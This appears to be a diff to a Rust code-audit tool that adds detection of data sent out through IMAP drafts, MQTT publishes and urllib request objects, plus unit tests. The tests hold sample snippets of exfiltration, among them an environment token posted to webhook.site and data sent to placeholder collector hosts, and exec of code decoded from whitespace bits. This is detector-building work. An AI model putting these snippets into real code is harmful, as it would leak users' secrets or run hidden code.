@@ -2750,6 +2750,16 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
         ) {
             return Val::named("uploader");
         }
+        // A client bound to a server that takes messages: IMAP (a draft appended is a
+        // message stored on someone's server), MQTT (a message published to a broker).
+        if matches!(
+            name,
+            "imaplib.imap4" | "imaplib.imap4_ssl" | "mqtt.client" | "paho.mqtt.client.client" | "client.client"
+        ) {
+            let mut v = Val::named("messenger");
+            v.text = first.text;
+            return v;
+        }
         if name == "sqlite3.connect" || name == "better-sqlite3" || name == "database" {
             return read_path(self.a, &first, span);
         }
@@ -3122,6 +3132,15 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
             }
             if module == "mailer" && matches!(lower.as_str(), "sendmail" | "send_message" | "sendmail_async") {
                 let e = self.a.emit("egress/email", span, receiver.text.clone(), None);
+                for v in args.all() {
+                    flow(self.a, v, e, "", false, span);
+                }
+                return Val::unknown("");
+            }
+            if module == "messenger" && matches!(lower.as_str(), "append" | "publish") {
+                let e = self
+                    .a
+                    .emit("egress/message", span, format!("{lower} {}", receiver.text), None);
                 for v in args.all() {
                     flow(self.a, v, e, "", false, span);
                 }
@@ -3519,7 +3538,8 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
         {
             bodies.push(body.clone());
         }
-        if name.ends_with("urlopen")
+        // `urlopen(url, data)`, and the request object `Request(url, data)` built for it.
+        if (name.ends_with("urlopen") || name.ends_with("urllib.request.request") || name == "urllib2.request")
             && let Some(body) = args.pos.get(1)
         {
             bodies.push(body.clone());
@@ -3856,6 +3876,59 @@ fn global_name(name: &str, lang: Lang) -> String {
 mod tests {
     use super::super::testing::{findings_of, has, tags};
     use super::*;
+
+    #[test]
+    fn code_run_in_process_that_no_file_shows_is_a_finding_and_an_input_or_a_script_is_not() {
+        // What a conversion the audit could not follow returned.
+        assert!(has(
+            "import ast\nm = ast.fix_missing_locations(tree)\neval(compile(m, '<x>', 'exec'))",
+            Lang::Python,
+            "exec/opaque"
+        ));
+        // A byte it could not compute leaves the text unknown: bits from whitespace.
+        assert!(has(
+            "bits = src()\nblob = bytes(int(bits[i:i + 8], 2) for i in range(0, 64, 8))\nexec(compile(blob, 'r', 'exec'))",
+            Lang::Python,
+            "exec"
+        ));
+        // An input named by a variable (a reference's `eval(user_input)`) and a script
+        // file run by its path (a loader) are not hidden code.
+        assert!(!has("exec(user_input)", Lang::Python, "exec/opaque"));
+        assert!(!has(
+            "exec(compile(open(path).read(), path, 'exec'))",
+            Lang::Python,
+            "exec/opaque"
+        ));
+        // A timer given a function runs that function.
+        assert!(!has("setTimeout(tick(), 100)", Lang::JavaScript, "exec/opaque"));
+    }
+
+    #[test]
+    fn a_message_sent_through_imap_or_mqtt_and_a_request_object_with_data_send_data_out() {
+        assert!(has(
+            "import imaplib\nim = imaplib.IMAP4_SSL('mail.example.net')\nim.append('Drafts', None, None, blob)",
+            Lang::Python,
+            "egress/message"
+        ));
+        assert!(has(
+            "import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('broker.example.net')\nc.publish('t', payload)",
+            Lang::Python,
+            "egress/message"
+        ));
+        assert!(has(
+            "import urllib.request\nreq = urllib.request.Request('https://collect.example.net/', data)\nurllib.request.urlopen(req)",
+            Lang::Python,
+            "egress/http"
+        ));
+    }
+
+    #[test]
+    fn one_secret_or_another_posted_to_keeps_the_first_name_so_a_webhook_kept_secret_is_its_endpoint() {
+        let js = "const hook = process.env.SLACK_WEBHOOK_URL || process.env.DISCORD_WEBHOOK_URL;\nfetch(hook, { method: 'POST', body: JSON.stringify(body) });";
+        assert!(!has(js, Lang::JavaScript, "flow/secret-egress"));
+        let py = "t = os.environ.get('A_TOKEN') or os.environ.get('B_TOKEN')\nrequests.post('https://webhook.site/x', data=t)";
+        assert!(has(py, Lang::Python, "flow/secret-egress"));
+    }
 
     #[test]
     fn python_folds_what_obfuscation_builds_and_sees_it_run() {
